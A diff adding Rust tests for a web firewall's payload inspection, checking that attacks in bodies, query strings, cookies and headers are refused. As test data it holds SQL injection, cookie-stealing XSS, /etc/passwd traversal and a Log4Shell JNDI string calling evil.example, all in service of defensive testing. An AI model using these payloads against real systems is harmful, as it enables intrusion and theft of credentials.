@@ -1,0 +1,136 @@
+//! Attacks in whole requests.
+
+use super::*;
+
+#[test]
+fn a_long_multipart_body_is_watched_while_it_passes() {
+    let site =
+        Site::with(|builder| builder.with_settings(|settings| settings.payload.body_limit = 4096));
+    let firewall = Arc::new(site.firewall);
+    let view = RequestView {
+        peer: Peer::Address(VISITOR.parse().unwrap()),
+        headers: &[
+            ("host", b"h"),
+            ("transfer-encoding", b"chunked"),
+            ("content-type", b"multipart/form-data; boundary=b"),
+        ],
+        ..RequestView::new("POST", b"/upload")
+    };
+    let part = |name: &str, value: &str| {
+        format!("--b\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
+    };
+    let file = part("file\"; filename=\"a.bin", &"\u{1}x".repeat(50_000));
+    for (last, refused) in [
+        ("hello", false),
+        ("1' UNION SELECT password FROM users--", true),
+    ] {
+        let body = format!("{file}{}--b--\r\n", part("comment", last));
+        let (verdict, mut exchange) = firewall.inspect(&view);
+        let Verdict::NeedBody(plan) = verdict else {
+            panic!("{verdict:?}");
+        };
+        assert_eq!(plan.longer, crate::Longer::Watch);
+        let (head, rest) = body.as_bytes().split_at(plan.limit);
+        let mut watch = firewall.watch_body(&view, &mut exchange, head).unwrap();
+        let late = watch.late_refusal();
+        let mut end = Ok(());
+        for chunk in rest.chunks(1000) {
+            end = end.and_then(|()| watch.chunk(chunk));
+        }
+        end = end.and_then(|()| watch.end());
+        assert_eq!(end.is_err(), refused, "{last}");
+        let found = late
+            .take()
+            .map(|(refusal, answer)| (refusal.cause.code(), answer.status));
+        assert_eq!(found, refused.then_some(("payload", 403)));
+    }
+    // An attack within what is collected is refused before the handler is called.
+    let early = part("comment", "<script>alert(document.cookie)</script>") + &file;
+    let (_, mut exchange) = firewall.inspect(&view);
+    let head = &early.as_bytes()[..4096];
+    assert!(firewall.watch_body(&view, &mut exchange, head).is_err());
+}
+
+#[test]
+fn attacks_are_refused_in_every_carrier_and_strike() {
+    let site = Site::new();
+    assert_eq!(
+        site.get(
+            VISITOR,
+            "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"
+        ),
+        "payload"
+    );
+    assert_eq!(
+        site.get(VISITOR, "/item?next=../../../../etc/passwd"),
+        "payload"
+    );
+    assert_eq!(site.get(VISITOR, "/"), "banned");
+    let cookie: &HeaderPairs<'_> = &[
+        ("host", b"h"),
+        ("cookie", b"a=1; q=<script>alert(1)</script>"),
+    ];
+    assert_eq!(
+        code(&site.send("198.51.100.1", "GET", "/", cookie)),
+        "payload"
+    );
+    let agent: &HeaderPairs<'_> = &[
+        ("host", b"h"),
+        ("user-agent", b"${jndi:ldap://evil.example/a}"),
+    ];
+    assert_eq!(
+        code(&site.send("198.51.100.2", "GET", "/", agent)),
+        "payload"
+    );
+}
+
+#[test]
+fn a_forum_may_take_code_in_one_field() {
+    let exemption = crate::settings::PayloadExemption {
+        path: "/forum/".into(),
+        fields: vec!["text".into()],
+        categories: vec!["xss".into()],
+    };
+    let site = Site::with(|builder| {
+        builder.with_settings(|settings| settings.payload.exempt = vec![exemption])
+    });
+    let script = "%3Cscript%3Ealert(document.cookie)%3C/script%3E";
+    assert_eq!(
+        site.get("198.51.100.1", &format!("/forum/post?text={script}")),
+        "ok"
+    );
+    assert_eq!(
+        site.get("198.51.100.2", &format!("/forum/post?title={script}")),
+        "payload"
+    );
+    assert_eq!(
+        site.get("198.51.100.3", &format!("/shop/post?text={script}")),
+        "payload"
+    );
+    assert_eq!(
+        site.get(
+            "198.51.100.4",
+            "/forum/post?text=1%27+UNION+SELECT+password+FROM+users--"
+        ),
+        "payload"
+    );
+}
+
+#[test]
+fn a_logged_in_client_is_refused_but_not_struck_by_payload() {
+    let site = Site::new();
+    for attack in [
+        "/?a=<script>alert(1)</script>",
+        "/?a=../../../etc/passwd",
+        "/?b=1'+UNION+SELECT+a+FROM+b--",
+    ] {
+        let view = RequestView {
+            peer: Peer::Address(VISITOR.parse().unwrap()),
+            authenticated: true,
+            headers: BROWSER,
+            ..RequestView::new("GET", attack.as_bytes())
+        };
+        assert_eq!(code(&site.send_view(&view)), "payload", "{attack}");
+    }
+    assert_eq!(site.get(VISITOR, "/"), "ok");
+}
